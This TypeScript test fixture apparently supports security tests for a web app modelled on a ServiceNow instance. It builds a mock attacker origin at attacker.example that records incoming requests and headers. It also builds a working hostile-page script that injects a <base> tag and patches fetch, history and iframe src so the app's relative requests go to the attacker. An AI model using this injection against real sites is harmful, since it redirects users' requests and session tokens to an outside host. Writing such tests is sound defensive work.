import { type Context, Hono } from 'hono'
import { batchApi } from './batch.ts'
import { Instance } from './instance.ts'
import { PEOPLE } from './seed.ts'
import { tableApi } from './table-api.ts'

export const ATTACKER = 'https://attacker.example'

export interface Received {
  method: string
  path: string
  headers: Record<string, string>
}

/**
 * Another origin, to which a hostile page redirects what it can. Every origin may read its answers, which are those of
 * an instance without mistakes and name the service account as the signed-in person.
 */
export function attacker(of: Instance): { app: Hono; received: Received[] } {
  const twin = new Instance({ setup: 'complete' })
  const received: Received[] = []
  const tables = tableApi(twin)
  const apis = new Hono().route('/', batchApi(twin, tables)).route('/', tables)
  // A session of its own, created once, that answers requests.
  let cookie = ''
  const session = { token: '' }
  const app = new Hono()

  app.use(async (c, next) => {
    const { pathname, search } = new URL(c.req.url)
    received.push({ method: c.req.method, path: pathname + search, headers: c.req.header() })
    await next()
    c.header('Access-Control-Allow-Origin', c.req.header('origin') ?? '*')
    c.header('Access-Control-Allow-Credentials', 'true')
    c.header('Access-Control-Allow-Headers', c.req.header('access-control-request-headers') ?? '*')
    c.header('Access-Control-Allow-Methods', 'GET, POST, PATCH, PUT, DELETE')
    c.header('Access-Control-Expose-Headers', 'X-Total-Count, X-Is-Logged-In')
  })
  app.options('*', (c) => c.body(null, 204))
  app.get('/begin', (c) => {
    const { id, token } = begin(c)
    cookie = `JSESSIONID=${id}`
    session.token = token
    return c.body(null, 204)
  })
  app.all('/api/*', async (c) => {
    if (cookie === '') await app.request(`${ATTACKER}/begin`)
    const url = new URL(c.req.url)
    if (url.pathname.endsWith('/sys_user') && url.search.includes('getUserID')) {
      const { sys_id, user_name } = of.serviceAccount ?? {}
      return c.json({ result: [{ sys_id: sys_id ?? '', user_name: user_name ?? '' }] })
    }
    const body = ['GET', 'HEAD'].includes(c.req.method) ? undefined : await c.req.text()
    const headers = {
      accept: 'application/json',
      'content-type': 'application/json',
      cookie,
      'x-usertoken': session.token,
    }
    return apis.request(url.href, { method: c.req.method, headers, ...(body !== undefined && { body }) })
  })
  app.all('*', (c) => c.html('<!doctype html><title>Attacker</title>'))

  function begin(c: Context) {
    const own = twin.sessions.of(c)
    twin.sessions.signIn(twin.db, own, PEOPLE.admin.user, PEOPLE.admin.password)
    return own
  }
  return { app, received }
}

/**
 * A hostile page's attempt to redirect relative addresses. It makes its own addresses absolute first, so that it keeps
 * working and only ours arrive elsewhere. `after`: only once a person or a script on it does something.
 */
function hostileBase(when: 'before' | 'after'): string {
  const script = (elsewhere: string, isLate: boolean) => {
    const own = (address: unknown) =>
      typeof address === 'string' && address.startsWith('/') ? location.origin + address : address
    const ask = window.fetch.bind(window)
    window.fetch = (address, init) => ask(own(address) as string, init)
    for (const name of ['pushState', 'replaceState'] as const) {
      const go = history[name]
      history[name] = (state, unused, address) => go.call(history, state, unused, own(address) as string)
    }
    const source = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'src')
    Object.defineProperty(HTMLIFrameElement.prototype, 'src', {
      ...source,
      set(this: HTMLIFrameElement, address: string) {
        source?.set?.call(this, own(address))
      },
    })
    const add = () => {
      const base = document.createElement('base')
      base.href = elsewhere
      document.head.prepend(base)
    }
    if (isLate) window.addEventListener('load', add)
    else add()
  }
  return `<script>(${script.toString()})('${ATTACKER}/', ${String(when === 'after')})</script>`
}

/** A page of the instance with a `<base>` that leads to the attacker. */
export const withHostileBase = (html: string, origin: string, when: 'before' | 'after'): string =>
  html
    .replaceAll(/(<(?:script|link|form)\b[^>]*?\s(?:src|href|action)=")\//g, `$1${origin}/`)
    .replace(/<head[^>]*>/, (head) => head + hostileBase(when))
